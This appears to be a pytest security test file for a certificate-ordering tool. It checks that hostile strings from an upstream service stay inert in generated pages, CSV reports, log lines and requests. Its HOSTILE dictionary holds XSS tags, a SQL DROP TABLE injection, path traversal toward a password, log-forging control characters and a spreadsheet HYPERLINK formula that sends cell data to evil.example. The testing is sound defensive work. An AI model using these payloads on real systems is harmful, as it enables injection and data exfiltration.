"""An SCM whose words are meant to do harm: in pages, files, log lines, SQL and paths they are words (SECURITY.md)."""

import contextlib
import csv
import logging
import re
from pathlib import Path
from typing import Any

import pytest

from flows.check_account import check_account
from flows.import_orders import import_orders
from flows.order_certificate import order_certificate
from flows.poll_orders import poll_orders
from flows.report_inventory import report_inventory
from flows.revoke import revoke
from flows.sync_reference_data import sync_reference_data
from models.errors import CertflowError
from models.orders import CertificateOrder
from tasks import pages

HOSTILE = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown": "[press](javascript:alert(1)) ![x](https://evil.example/x.png) | a | b | `c`\n# big",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"press")',
    "log line": "done\n2026-11-25 09:00:00 | CRITICAL | Flow run 'x' - Finished in state Completed()\x1b[2J\x1b[31m\r\x00\x07",
    "sql": "'; DROP TABLE certificate_order; --",
    "path": "../../accounts/default#password?version=1",
    "control letters": "a\u202eb\u200bc\ufeffd\u2028e\u2029f\x85g",
}
FACTS = ("requester", "external_requester", "comments")


@pytest.fixture(params=HOSTILE)
def word(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


@pytest.fixture
def hostile(world: Any, word: str, caplog: pytest.LogCaptureFixture) -> Any:
    """Organizations, profiles, fields, domains and orders that bear the word; everything read once."""
    caplog.set_level(logging.DEBUG)
    sandbox = world.sandbox
    for kind, field in (("organizations", "name"), ("profiles", "name"), ("profiles", "description"), ("custom_fields", "name"), ("domains", "name")):
        row = sandbox.control("GET", f"reference/{kind}")[-1]
        sandbox.control("PUT", f"reference/{kind}/{row['id']}", {field: f"{word} {row[field]}"})
    issued = [row for row in sandbox.orders() if row["status"] == "Issued"]
    sandbox.change_order(issued[0]["ssl_id"], **dict.fromkeys(FACTS, word), custom_fields=[["Cost centre", word]])
    sandbox.fault("field", route="report", field="commonName", value=f"{word}.example.com", ssl_id=issued[1]["ssl_id"])
    sandbox.fault("unknown_status", word=word, route="report", ssl_id=issued[2]["ssl_id"])
    sandbox.fault("field", route="report", field="issuer", value=word, ssl_id=issued[3]["ssl_id"])
    sandbox.fault("field", route="report", field="expires", value=word, ssl_id=issued[4]["ssl_id"])
    sandbox.fault("field", route="report", field="serialNumber", value=word, ssl_id=issued[5]["ssl_id"])
    sync_reference_data.fn()
    with contextlib.suppress(CertflowError):    # what it says of what it could not read is looked at below
        import_orders.fn(fetch_certificates=False)
    return world


def one_line(caplog: pytest.LogCaptureFixture) -> None:
    """No line of SCM's becomes a line of ours."""
    for record in caplog.records:
        if not record.name.startswith(("urllib3", "asyncio", "httpcore", "httpx")):
            text = record.getMessage()
            assert len(text.splitlines()) <= 1, repr(text)
            assert all(letter.isprintable() for letter in text), repr(text)


def test_hostile_words_are_shown_as_words_on_every_page(hostile: Any, caplog: pytest.LogCaptureFixture) -> None:
    """SECURITY: a hostile answer; Markdown and HTML"""
    with contextlib.suppress(CertflowError):
        poll_orders.fn()
    made = [pages.orders_page("default"), pages.reference_page("default")]
    with_word = [row.id for row in hostile.rows(CertificateOrder) if row.comments or row.requester][:3]
    made += [pages.order_page(id_) for id_ in with_word]
    for page in made:
        for meant in ("<script", "<img", "](", "![", "`c`"):
            assert not re.search(rf"(?<!\\){re.escape(meant)}", page), page[:2000]
        assert not re.search(r"^# big", page, re.MULTILINE)
        assert not any(letter in page for letter in "\x1b\x00\x07\r\x85\u2028\u2029"), repr(page[:2000])
    one_line(caplog)


@pytest.mark.usefixtures("hostile")
def test_hostile_words_are_text_in_the_file_for_spreadsheets() -> None:
    """SECURITY: CSV formulas; RFC 4180"""
    found = report_inventory.fn()
    with Path(found.file).open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) - 1 == found.orders
    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r")]
    assert all(cell.isprintable() for row in rows for cell in row)


def test_hostile_words_in_a_refusal_and_in_a_request_are_words(
    hostile: Any, word: str, caplog: pytest.LogCaptureFixture, is_for_a_person: Any,
) -> None:
    """SECURITY: log lines, SQL, paths in Vault, addresses"""
    hostile.sandbox.clear()
    before = len(hostile.rows(CertificateOrder))
    hostile.sandbox.fault("status", route="enroll", status=400, body={"code": -36, "description": word}, count=1)
    with pytest.raises(CertflowError) as caught:
        order_certificate.fn(
            common_name="www.example.com", organization="Example University", certificate_profile="OV Multi-Domain", key_algorithm="EC")
    assert str(caught.value).isprintable()
    hostile.sandbox.forget_calls()
    asked = [
        lambda: poll_orders.fn(orders=[word]), lambda: poll_orders.fn(account=word), lambda: report_inventory.fn(name=word, organization=word),
        lambda: revoke.fn(orders=[word], reason_code="superseded", reason=word), lambda: check_account.fn(account=word),
        lambda: order_certificate.fn(common_name=word, organization=word, certificate_profile=word),
        lambda: order_certificate.fn(
            common_name="path.example.com", organization="Example University", certificate_profile="OV Multi-Domain", live_name=word),
        lambda: order_certificate.fn(
            common_name="path.example.com", organization="Example University", certificate_profile="OV Multi-Domain", keystore_password_path=word),
        lambda: import_orders.fn(organizations=[word]),
    ]
    for ask in asked:
        with pytest.raises(CertflowError) as caught:
            ask()
        is_for_a_person(caught.value)
    assert not hostile.sandbox.calls().get("POST enroll")
    assert len(hostile.rows(CertificateOrder)) == before + 1
    one_line(caplog)
